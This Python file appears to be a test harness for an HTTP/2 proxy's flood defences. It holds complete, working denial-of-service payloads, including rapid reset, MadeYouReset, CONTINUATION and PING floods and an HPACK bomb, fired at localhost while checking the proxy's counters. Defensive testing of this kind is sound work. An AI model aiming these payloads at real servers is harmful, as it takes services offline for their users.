"""HTTP/2 connections that cost their other end more than themselves, as bytes made beforehand.

    CLIENT["ping"]      what a hostile client says behind its preface
    UPSTREAM["ping"]    what a hostile upstream says when it was asked something

Run as a program it is the attacker, as fast as its sockets take it:

    h2_attacks.py client PORT NAME CONNECTIONS SECONDS
    h2_attacks.py upstream PORT NAME SECONDS       says when it listens
    h2_attacks.py sink                             prints its port, reads, and says nothing

A client opens a connection that was ended anew.  At the end it prints what it saw, as JSON.
"""

import collections
import dataclasses
import functools
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED, ACK = 1, 4, 8, 1


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def be32(number):
    return struct.pack(">I", number)


def text(value):
    """A string of HPACK, without Huffman's code."""
    value = value.encode() if isinstance(value, str) else value
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, bytearray([127])
    while rest >= 128:
        out.append(128 | rest & 127)
        rest >>= 7
    return bytes(out) + bytes([rest]) + value


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\0") + text(name) + text(value)


def request(path="/", method="GET", more=b""):
    return literal(":method", method) + literal(":scheme", "http") + literal(":path", path) + literal(
        ":authority", "h") + more


def head(stream, block, end=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def post(stream, path="/", more=b""):
    return head(stream, request(path, "POST", more), False)


def setting(number, value):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", number, value))


def streams(count, make):
    """What is to be said of each of so many streams, one after another; made when it is needed."""
    return functools.cache(lambda: b"".join(make(2 * i + 1) for i in range(count)))


@dataclasses.dataclass
class Attack:
    once: object = b""      # behind SETTINGS: bytes, or streams()
    again: bytes = b""      # then this, over and over; without it the rest is silence
    before: bytes = b""     # in front of `once`
    reads: bool = True      # takes what the proxy says
    counters: tuple = ()    # one of these counts it; none: the proxy has nothing against it
    code: int = 11          # of the GOAWAY: ENHANCE_YOUR_CALM
    may: tuple = ()         # may be counted too: of a peer that heeds no window
    requests: int = 0       # for what is allowed: so many streams must have been served
    pace: int = 0           # bytes of a stream of `once`, of which 500 run at a time; 0: as many as may be

    def first(self):
        return self.before + (self.once() if callable(self.once) else self.once)


FAR = 4000  # streams: more than anybody may misuse
BOMB = request("/direct", more=literal("x", b"b" * 3000, indexed=True)) + b"\xbe" * 12_000
FULL_TABLE = b"".join(literal(f"x-{i}", b"b" * 500, indexed=True) for i in range(30))
IGNORED = ("http2.inbound_ignored_frames_flood",)
PREMATURE = "http.in.downstream_rq_too_many_premature_resets"

CLIENT = {
    "rapid_reset": Attack(streams(FAR, lambda s: head(s, request()) + frame(RST, 0, s, be32(8))),
                          counters=(PREMATURE, "http2.inbound_reset_flood")),
    "rapid_reset_of_answered": Attack(
        streams(FAR, lambda s: head(s, request("/direct")) + frame(RST, 0, s, be32(8))),
        counters=("http2.inbound_reset_flood",)),
    "made_you_reset_by_windows": Attack(
        streams(FAR, lambda s: post(s) + frame(UPDATE, 0, s, be32(0x7fffffff))), counters=(PREMATURE, "http2.reset_flood")),
    "made_you_reset_by_lengths": Attack(
        streams(FAR, lambda s: post(s, more=literal("content-length", "1")) + frame(DATA, END_STREAM, s, b"22")),
        counters=(PREMATURE, "http2.reset_flood")),
    "made_you_reset_by_heads": Attack(streams(FAR, lambda s: head(s, literal(":method", "GET"))),
                                      counters=(PREMATURE, "http2.reset_flood")),
    "made_you_reset_by_trailers": Attack(streams(FAR, lambda s: post(s) + head(s, literal("x", "y"), False)),
                                         counters=(PREMATURE, "http2.reset_flood")),
    "update_of_zero": Attack(post(1) + frame(UPDATE, 0, 1, be32(0)), counters=("http2.protocol_error",), code=1),
    "data_behind_the_end": Attack(head(1, request()) + frame(DATA, 0, 1, b"x"), counters=("http2.protocol_error",), code=5),
    "continuation": Attack(frame(HEADERS, END_STREAM, 1, request()), frame(CONTINUATION, 0, 1, literal("x", "y")) * 1000,
                           counters=("http2.inbound_continuation_flood",)),
    "empty_data": Attack(post(1), frame(DATA, 0, 1) * 1000, counters=("http2.inbound_empty_frames_flood",)),
    "empty_headers": Attack(frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1) * 1000,
                            counters=("http2.inbound_empty_frames_flood",)),
    "padding_alone": Attack(post(1), frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 100,
                            counters=("http2.inbound_empty_frames_flood",)),
    "settings": Attack(b"", frame(SETTINGS) * 1000, counters=("http2.inbound_settings_flood", "http2.outbound_control_flood")),
    "settings_of_many_entries": Attack(frame(SETTINGS, 0, 0, struct.pack(">HI", 99, 1) * 2700),
                                       counters=("http2.inbound_settings_flood",)),
    "settings_to_and_fro": Attack(
        streams(1000, lambda s: post(s)), (setting(1, 0) + setting(1, 4096) + setting(4, 1) + setting(4, 1 << 20)) * 500,
        counters=("http2.inbound_settings_flood", "http2.outbound_control_flood")),
    "ping": Attack(b"", frame(PING, 0, 0, b"12345678") * 2000,
                   counters=("http2.inbound_ping_flood", "http2.outbound_control_flood")),
    "ping_unread": Attack(b"", frame(PING, 0, 0, b"12345678") * 2000, reads=False,
                          counters=("http2.inbound_ping_flood", "http2.outbound_control_flood")),
    "priority": Attack(b"", frame(PRIORITY, 0, 1, be32(0) + b"\x10") * 2000,
                       counters=("http2.inbound_priority_frames_flood",)),
    "priority_of_idle_streams": Attack(streams(1_000_000, lambda s: frame(PRIORITY, 0, s, be32(0) + b"\x10")),
                                       counters=("http2.inbound_priority_frames_flood",)),
    "window_update": Attack(b"", frame(UPDATE, 0, 0, be32(1)) * 2000,
                            counters=("http2.inbound_window_update_frames_flood",)),
    "updates_of_a_byte": Attack(setting(4, 0) + head(1, request("/large")), frame(UPDATE, 0, 1, be32(1)) * 2000,
                                counters=("http2.inbound_window_update_frames_flood",)),
    "goaway": Attack(post(1), frame(GOAWAY, 0, 0, be32(0) + be32(0)) * 2000, counters=("http2.inbound_goaway_flood",)),
    "unknown_frames": Attack(b"", frame(0x42, 0xff, 1, b"what?") * 2000, counters=("http2.inbound_ignored_frames_flood",)),
    "stray_heads": Attack(head(3, request("/direct")), head(1, request("/direct")) * 1000,
                          counters=("http2.protocol_error",), code=1),
    "hpack_bomb": Attack(streams(50, lambda s: head(s, BOMB)), counters=("http2.inbound_header_list_flood",)),
    "too_many_fields": Attack(streams(FAR, lambda s: head(s, request("/direct") + b"\x90" * 200)),
                              counters=("http2.reset_flood",)),
    "too_many_trailers": Attack(
        streams(FAR, lambda s: post(s, "/sink") + head(s, literal("x", "y") * 200)), counters=("http2.reset_flood",)),
    "never_ended": Attack(streams(FAR, lambda s: post(s, "/sink")), counters=("http2.reset_flood",)),
    # Nobody can say that these are attacks: others must not feel them.
    "one_stream_after_another": Attack(streams(60_000, lambda s: head(s, request("/direct"))), requests=1000, pace=65),
    "table_thrash": Attack(streams(2000, lambda s: head(s, b"\x20\x3f\xe1\x1f" + request("/direct") + FULL_TABLE)),
                           requests=100),
    "cookie_crumbs": Attack(streams(10_000, lambda s: head(s, request("/direct", more=literal("cookie", "a=b") * 90))),
                            requests=100),
    "frames_of_a_byte": Attack(post(1, "/sink"), frame(DATA, 0, 1, b"x") * 2000, may=IGNORED),
    "padding": Attack(post(1, "/sink"), frame(DATA, PADDED, 1, b"\xff" + b"x" + bytes(255)) * 200, may=IGNORED),
    "zero_window": Attack(streams(50, lambda s: head(s, request("/large"))), before=setting(4, 0), reads=False),
    "slow_reading": Attack(streams(50, lambda s: head(s, request("/large"))), reads=False),
    "unended_head": Attack(frame(HEADERS, END_STREAM, 1, request()), reads=False),
}

OK = literal(":status", "200")
UPSTREAM = {
    "continuation": Attack(frame(HEADERS, 0, 1, OK), frame(CONTINUATION, 0, 1, literal("x", "y")) * 1000,
                           counters=("inbound_continuation_flood",)),
    "empty_data": Attack(head(1, OK, False), frame(DATA, 0, 1) * 1000, counters=("inbound_empty_frames_flood",)),
    "settings": Attack(b"", frame(SETTINGS) * 1000, counters=("inbound_settings_flood", "outbound_control_flood")),
    "ping": Attack(b"", frame(PING, 0, 0, b"12345678") * 2000, counters=("inbound_ping_flood", "outbound_control_flood")),
    "priority": Attack(b"", frame(PRIORITY, 0, 1, be32(0) + b"\x10") * 2000, counters=("inbound_priority_frames_flood",)),
    "window_update": Attack(b"", frame(UPDATE, 0, 0, be32(1)) * 2000, counters=("inbound_window_update_frames_flood",)),
    "goaway": Attack(b"", frame(GOAWAY, 0, 0, be32(1) + be32(0)) * 2000, counters=("inbound_goaway_flood",)),
    "unknown_frames": Attack(b"", frame(0x42, 0xff, 1, b"what?") * 2000, counters=("inbound_ignored_frames_flood",)),
    "stray_resets": Attack(b"", frame(RST, 0, 1, be32(8)) * 2000, counters=("inbound_ignored_frames_flood",)),
    "hpack_bomb": Attack(head(1, OK + literal("x", b"b" * 3000, indexed=True) + b"\xbe" * 12_000),
                         counters=("inbound_header_list_flood",)),
    "interim": Attack(b"", head(1, literal(":status", "103"), False) * 1000,
                      counters=("interim_flood", "inbound_ignored_frames_flood")),
    "frames_of_a_byte": Attack(head(1, OK, False), frame(DATA, 0, 1, b"x") * 2000, may=("inbound_ignored_frames_flood",)),
}


class Connection:
    """One of the attacker's, with what it still has to say."""

    def __init__(self, attack, peer, first):
        self.attack, self.socket = attack, peer
        self.socket.setblocking(False)
        self.left = memoryview(first + attack.first())
        self.inbox = b""
        self.sent = 0
        self.seen = collections.Counter()

    def events(self):
        has_more = self.room() and (self.left or self.attack.again)
        return (select.POLLIN if self.attack.reads else 0) | (select.POLLOUT if has_more else 0)

    def room(self):
        """How much may be sent now."""
        if not self.attack.pace:
            return 1 << 18
        return max(0, (self.seen["responses"] + 500) * self.attack.pace - self.sent)

    def work(self):
        """False when the other side has ended it."""
        try:
            if self.attack.reads and not self.read():
                return False
            for _ in range(4):
                if not self.left:
                    self.left = memoryview(self.attack.again)
                if self.left and self.room():
                    sent = self.socket.send(self.left[:self.room()])
                    self.sent += sent
                    self.left = self.left[sent:]
        except BlockingIOError:
            pass
        except OSError:
            self.read_rest()
            return False
        return True

    def read(self):
        try:
            data = self.socket.recv(1 << 18)
        except BlockingIOError:
            return True
        self.take(data)
        return bool(data)

    def read_rest(self):
        try:
            while data := self.socket.recv(1 << 18):
                self.take(data)
        except OSError:
            pass

    def take(self, data):
        data = self.inbox + data
        at = 0
        while len(data) - at >= 9:
            size, kind, flags = int.from_bytes(data[at:at + 3], "big"), data[at + 3], data[at + 4]
            if len(data) - at < 9 + size:
                break
            if kind == GOAWAY:
                self.seen[f"goaway {int.from_bytes(data[at + 13:at + 17], 'big')}"] += 1
            elif kind == RST:
                self.seen["resets"] += 1
            if kind <= HEADERS and flags & END_STREAM:
                self.seen["responses"] += 1
            at += 9 + size
        self.inbox = data[at:]


def attack_as_client(port, name, count, seconds):
    attack = CLIENT[name]

    def connect():
        peer = socket.create_connection(("127.0.0.1", port))
        peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return Connection(attack, peer, PREFACE + frame(SETTINGS))

    run([connect() for _ in range(count)], connect, seconds, attack)


def run(connections, renew, seconds, attack):
    """Goes on for longer, where the machine is busy, until the other side has ended a connection that it must end."""
    total = collections.Counter()
    begin = time.monotonic()
    by_number = {}
    poll = select.poll()

    def add(connection):
        by_number[connection.socket.fileno()] = connection
        poll.register(connection.socket, connection.events())

    def remove(connection):
        poll.unregister(connection.socket)
        del by_number[connection.socket.fileno()]
        connection.socket.close()
        total.update(connection.seen)
        total["bytes"] += connection.sent
        total["connections"] += 1

    def left():
        must_end = attack.counters and not total["ended"]
        must_tell = attack.counters and attack.reads and not any(key.startswith("goaway") for key in total)
        return begin + seconds * (20 if must_end or must_tell else 1) - time.monotonic()

    for connection in connections:
        add(connection)
    while (rest := left()) > 0:
        for number, _ in poll.poll(rest * 1000):
            connection = by_number[number]
            if connection.work():
                poll.modify(connection.socket, connection.events())
                continue
            total["ended"] += 1
            remove(connection)
            add(renew())
    for connection in list(by_number.values()):
        connection.read_rest()
        remove(connection)
    print(json.dumps(total))


def attack_as_upstream(port, name, seconds):
    """Whoever connects and sends a request is answered by the attack."""
    listener = socket.create_server(("127.0.0.1", port), backlog=100)
    print("listens", flush=True)
    total = collections.Counter()
    end = time.monotonic() + seconds
    listener.settimeout(0.05)
    while (left := end - time.monotonic()) > 0:
        try:
            peer, _ = listener.accept()
        except TimeoutError:
            continue
        peer.settimeout(1)
        seen = b""
        try:
            # The head of a request: a HEADERS frame on stream 1.
            while b"\1\5\0\0\0\1" not in seen and (data := peer.recv(1 << 16)):
                seen += data
        except OSError:
            continue
        connection = Connection(UPSTREAM[name], peer, frame(SETTINGS))
        poll = select.poll()
        poll.register(peer, connection.events())
        while (left := end - time.monotonic()) > 0:
            if poll.poll(left * 1000) and not connection.work():
                break
            poll.modify(peer, connection.events())
        peer.close()
        total.update(connection.seen)
        total["connections"] += 1
        total["bytes"] += connection.sent
    print(json.dumps(total))


def sink():
    listener = socket.create_server(("127.0.0.1", 0), backlog=1000)
    print(listener.getsockname()[1], flush=True)
    listener.setblocking(False)
    poll = select.epoll()
    poll.register(listener, select.EPOLLIN)
    peers = {}
    while True:
        for number, _ in poll.poll():
            if number == listener.fileno():
                peer, _ = listener.accept()
                peers[peer.fileno()] = peer
                poll.register(peer, select.EPOLLIN)
                continue
            try:
                if peers[number].recv(1 << 18):
                    continue
            except OSError:
                pass
            poll.unregister(number)
            peers.pop(number).close()


if __name__ == "__main__":
    role, *arguments = sys.argv[1:]
    if role == "client":
        attack_as_client(int(arguments[0]), arguments[1], int(arguments[2]), float(arguments[3]))
    elif role == "upstream":
        attack_as_upstream(int(arguments[0]), arguments[1], float(arguments[2]))
    else:
        sink()
